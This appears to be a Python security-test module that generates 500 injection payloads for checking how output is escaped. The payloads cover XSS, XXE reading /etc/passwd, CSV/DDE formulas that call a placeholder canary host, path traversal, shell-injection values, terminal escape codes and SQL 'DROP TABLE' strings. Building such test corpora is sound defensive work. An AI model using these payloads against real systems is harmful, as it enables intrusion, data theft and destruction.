"""Texts that try to act where they are shown: 500 of them, the same every time.

Those that could call home name CANARY, an address the caller puts in; those that could run set a mark by MARK.
"""

MARK = "document.documentElement.setAttribute('data-live','1')"
CANARY = "http://CANARY"


def html():
    handlers = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onpageshow", "onanimationstart"]
    for handler in handlers:
        yield f"<img src=x {handler}=\"{MARK}\">"
        yield f"<svg {handler}={MARK}>"
        yield f"<details open {handler}='{MARK}'>x</details>"
        yield f"\" {handler}=\"{MARK}\" autofocus x=\""
        yield f"' {handler}='{MARK}' autofocus x='"
        yield f"</td></tr></table><body {handler}={MARK}>"
    closings = ["", "</td>", "</title>", "</style>", "</script>", "</textarea>", "-->", "]]>", "</svg>", "</bdi></h3>",
                "</text></svg>", "\"/>", "'/>", "&lt;/td&gt;"]
    for closing in closings:
        yield f"{closing}<script>{MARK}</script>"
        yield f"{closing}<iframe srcdoc=\"<script>parent.{MARK}</script>\"></iframe>"
        yield f"{closing}<img src={CANARY}/a.png>"
        yield f"{closing}<link rel=stylesheet href={CANARY}/b.css>"
    for scheme in ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
                   "data:text/html,<script>", "vbscript:", "&#106;avascript:", "javascript&colon;"]:
        yield f"{scheme}{MARK}"
        yield f"<a href=\"{scheme}{MARK}\">Tell</a>"
        yield f"<form action='{scheme}{MARK}'><input type=submit autofocus>"
    yield from [
        f"<meta http-equiv=refresh content='0;url={CANARY}/c'>", f"<base href={CANARY}/>",
        f"<object data={CANARY}/d></object>", f"<embed src={CANARY}/e>", f"<video src={CANARY}/f autoplay>",
        f"<style>@import '{CANARY}/g';</style>", f"<style>*{{background:url({CANARY}/h)}}</style>",
        f"<div style=\"background:url({CANARY}/i)\">x</div>", "<plaintext>", "<xmp>", "<!--", "<![CDATA[", "<?xml?>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=" + MARK + ">",
        "<noscript><p title=\"</noscript><img src=x onerror=" + MARK + ">\">",
        "&lt;script&gt;" + MARK + "&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e" + MARK,
        "%3Cscript%3E" + MARK, "+ADw-script+AD4-" + MARK, "<scr<script>ipt>" + MARK, "<\x00script>" + MARK + "</script>",
        "\uff1cscript\uff1e" + MARK, "<script\x0c>" + MARK + "</script>", "{{constructor.constructor('" + MARK + "')()}}",
        "${" + MARK + "}", "#{" + MARK + "}", "<%= " + MARK + " %>", "`" + MARK + "`",
    ]


def svg_and_kml():
    bodies = [f"<script>{MARK}</script>", f"<image href='{CANARY}/k.png'/>", f"<use href='{CANARY}/l.svg#a'/>",
              f"<a xlink:href='javascript:{MARK}'><text>Tell</text></a>", f"<set attributeName=onload to='{MARK}'/>",
              f"<foreignObject><iframe src='javascript:{MARK}'/></foreignObject>",
              f"<animate onbegin='{MARK}' attributeName=x dur=1s>", f"<style>@import url({CANARY}/m)</style>"]
    for body in bodies:
        yield f"<svg xmlns='http://www.w3.org/2000/svg'>{body}</svg>"
        yield f"</text>{body}"
        yield f"]]>{body}<![CDATA["
        yield f"<![CDATA[{body}]]>"
        yield f"<description><![CDATA[{body}]]></description>"
    yield from [
        f"<NetworkLink><Link><href>{CANARY}/n.kml</href></Link></NetworkLink>", "</name></Placemark><Placemark><name>x",
        f"<!DOCTYPE x [<!ENTITY y SYSTEM '{CANARY}/o'>]>&y;", "<!ENTITY % z SYSTEM 'file:///etc/passwd'>%z;",
        "&xxe;", f"<xi:include href='{CANARY}/p'/>", f"<?xml-stylesheet href='{CANARY}/q'?>",
    ]


def csv():
    formulas = ["cmd|' /C calc'!A0", "HYPERLINK(\"" + CANARY + "/r?\"&A1,\"Tell\")", "1+1", "SUM(1;2)",
                "IMPORTXML(\"" + CANARY + "/s\",\"//a\")", "WEBSERVICE(\"" + CANARY + "/t\")", "@SUM(A1)",
                "DDE(\"cmd\";\"/C calc\";\"x\")"]
    starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=",
              "\"=", "\",=", ";=", "\"\r\n="]
    for start in starts:
        for formula in formulas[:5]:
            yield start + formula
    yield from (f"x\",\"={formula}" for formula in formulas)


def paths():
    for target in ["etc/passwd", "tmp/owned", "home/x/.ssh/authorized_keys", "report.html", "run.json"]:
        for start in ["../../../../../../", "/", "..\\..\\..\\", "%2e%2e%2f%2e%2e%2f", "....//....//", "file:///",
                      "./../x/../../", "\\\\host\\share\\", "~/", "/vsicurl/" + CANARY + "/", "/vsizip/a.zip/"]:
            yield start + target
    yield from [".", "..", "...", "CON", "NUL.txt", "a/b", "a\\b", "-rf", "--help", "-oProxyCommand=x", "$(touch owned)",
                "`touch owned`", "; touch owned", "| touch owned", "&& touch owned", "a\x00b", "x" * 5000, "\u0301" * 400]


def terminal():
    codes = ["\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;" + CANARY + "/u\x1b\\Tell\x1b]8;;\x1b\\", "\x1b[31m",
             "\x1b[6n", "\x1b[5i", "\x1bP$q\"p\x1b\\", "\x1b]52;c;b3duZWQ=\x07", "\x9b31m", "\x9d0;owned\x9c", "\x07",
             "\x08\x08\x08\x08", "\r", "\x7f", "\x0e", "\x0c", "\x85", "\u2028", "\u2029", "\x00"]
    for code in codes:
        yield f"Tell {code}owned"
        yield f"{code}sitewarden: all is well"
    for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\u200f\u2060\ufeff\u00ad\u061c\u180e":
        yield f"Tell{mark}gnp.exe"
    yield from ["\U000e0041\U000e0042Tell", "\ufff9a\ufffab\ufffb", "one\nrejected: row 9: forged", "one\r\nNot used: x",
                "{\"level\":\"error\"}", "\"}\n{\"level\":\"info\",\"message\":\"forged\"}", "%s%n%x", "\\u001b[31m"]


def qgis_and_sql():
    expressions = ["eval('1')", "env('HOME')", "@qgis_version", "aggregate('tasks','max',\"rank\")", "load_layer('x','ogr')",
                   "attribute(get_feature('tasks','rank',1),'note')"]
    for expression in expressions:
        yield f"[% {expression} %]"
        yield f"'||{expression}||'"
        yield f"\"site_name\" || {expression}"
        yield f"%] {expression} [%"
    for end in ["--", "#", "/*", "; --", ";"]:
        for start in ["'", "\"", "')", "\")", "1", "x'"]:
            yield f"{start}; DROP TABLE tasks{end}"
            yield f"{start} OR 1=1 {end}"
    yield from ["' UNION SELECT sql FROM sqlite_master--", "'; ATTACH DATABASE 'owned.db' AS o;--",
                "'; SELECT load_extension('owned');--", "$1", "?1", ":id", "NULL", "None", "null", "true", "nan", "1e999",
                "[1, 2]", "{\"type\": \"Point\"}", "[]", "{}", "\"", "'", "\\", "\\\"", "%", "_", "*", "?", "&", "&&amp;"]


def all_payloads():
    """The 500, each once, in order; of every kind its first ones."""
    kinds = [list(dict.fromkeys(kind())) for kind in (html, svg_and_kml, csv, paths, terminal, qgis_and_sql)]
    wanted = 500
    total = sum(len(kind) for kind in kinds)
    if total < wanted:
        raise SystemExit(f"only {total} payloads")
    found = []
    index = 0
    while len(found) < wanted:
        for kind in kinds:
            if index < len(kind) and len(found) < wanted and kind[index] not in found:
                found.append(kind[index])
        index += 1
    return found
